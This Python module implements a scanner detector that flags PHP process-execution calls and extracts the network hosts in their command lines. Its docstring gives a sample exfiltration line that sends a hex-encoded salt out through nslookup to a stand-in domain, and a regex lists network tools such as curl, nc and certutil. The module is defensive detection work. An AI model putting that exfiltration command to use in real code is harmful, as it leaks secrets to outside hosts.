"""# process-execution.

## What it does
Lists calls that start a program: `exec`, `shell_exec`, backticks, `proc_open`, `popen`, `pcntl_exec` and the like,
with the command where it is known and the hosts that stand in it.

## Why is this bad
A program can use the network in any way; `curl`, `nslookup` or `php -r` in a command line leave no PHP call behind.

## Example
```php
shell_exec("nslookup " . bin2hex($salt) . ".t.example.net");
```

## References
- CWE-78
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from scanner.analysis.destinations import LOCAL, UNRESOLVED, url_destination
from scanner.analysis.summary import Hit, depends_on_caller
from scanner.analysis.templates import HoleTable, is_known
from scanner.detectors.base import Detector, Scene, finding, rule
from scanner.detectors.targets import leaves
from scanner.model.finding import Category, Confidence, Finding, Severity

RULE = rule("process-execution", Category.EGRESS, "Command run by the operating system", __doc__)
_KINDS = frozenset({"exec", "process"})
_WORD = re.compile(r"[^\s'\"|;&()<>`]+")
_TOOLS = re.compile(
    r"(?:^|[\s/|;&(`])(curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|rsync|ftp|lftp|tftp|dig|nslookup|host|ping|"
    r"traceroute|mail|mailx|sendmail|mutt|msmtp|openssl|git|svn|aws|gsutil|gcloud|az|azcopy|rclone|mysql|mysqldump|"
    r"psql|pg_dump|redis-cli|mongo|mongodump|smbclient|ldapsearch|snmpget|python3?|perl|ruby|node|php|powershell|pwsh|"
    r"certutil|bitsadmin|docker|kubectl|pip|npm|composer|bash|sh)(?=\s|$)",
    re.IGNORECASE,
)
_MAX_MARKS = 6
_FILE = re.compile(
    r"\.(?:php|phar|txt|json|log|xml|html?|sql|tar|gz|tgz|conf|ini|js|css|csv|pdf|png|jpe?g)$", re.IGNORECASE
)
"""Names of files that look like hosts; none of these is a top-level domain."""


def _commands(hit: Hit) -> list[str]:
    return sorted(
        {text for role in ("command", "path", "payload") if role in hit.roles for text in hit.roles[role].texts}
    )


def _hosts(command: str, holes: HoleTable) -> set[str]:
    """Hosts that stand in a command line: URLs, and what follows a tool that takes a host."""
    found: set[str] = set()
    for word in _WORD.findall(command):
        if "://" in word or word.startswith("/dev/tcp/"):
            text = "tcp://" + word.removeprefix("/dev/tcp/") if word.startswith("/dev/tcp/") else word
            found.add(url_destination(text, holes).name)
        elif (
            re.fullmatch(r"(?:[^@\s]*@)?[A-Za-z0-9_-]*(?:[^\s/]*\.)+[A-Za-z]{2,24}(?:[:/].*)?", word)
            and _TOOLS.search(command)
            and not _FILE.search(word)
        ):
            found.add(url_destination(word, holes, bare_host=True).name)
    return {UNRESOLVED if _only_an_ending(name) else name for name in found} - {LOCAL}


def _only_an_ending(name: str) -> bool:
    """`*.org` is what is left of a host of which nothing is known: it names nobody."""
    return name.startswith("*") and "." not in name.lstrip("*.")


def _find(scene: Scene) -> Iterable[Finding]:
    for hit in scene.result.hits:
        if hit.signature.kind in _KINDS and not (hit.via and not _open_command(scene, hit)):
            yield _finding(scene, hit)


def _open_command(scene: Scene, hit: Hit) -> bool:
    """A wrapper's caller counts when what it passes is a command that says something."""
    return any(is_known(text) or _TOOLS.search(text) for text in _commands(hit)) and bool(scene)


def _finding(scene: Scene, hit: Hit) -> Finding:
    holes = scene.result.state.holes
    commands = _commands(hit)
    hosts = {host for command in commands for host in _hosts(command, holes)}
    network = any(_TOOLS.search(command) for command in commands)
    known = bool(commands) and all(is_known(command) for command in commands)
    severity = Severity.MEDIUM if leaves(hosts) or network else Severity.LOW
    if not hosts and (network or not known):
        hosts = {UNRESOLVED}
    shown = [holes.show(command[:200]) for command in commands[:_MAX_MARKS]]
    text = f": {shown[0]}" if shown and not _by_caller(hit) else ""
    return finding(
        scene,
        RULE,
        hit.function,
        hit.line,
        hit.end_line,
        span=(hit.start, hit.end),
        severity=severity,
        confidence=Confidence.CERTAIN if hit.certain else Confidence.POSSIBLE,
        api=hit.api if not hit.via else f"{hit.via[0]} ({hit.api})",
        message=f"{hit.api}() runs a command{text}",
        destinations=leaves(hosts),
        details=[("channel", hit.signature.kind), *(("command", command) for command in shown)],
    )


def _by_caller(hit: Hit) -> bool:
    return any(depends_on_caller(value) for role, value in hit.roles.items() if role == "command")


DETECTOR = Detector(RULE, _find)
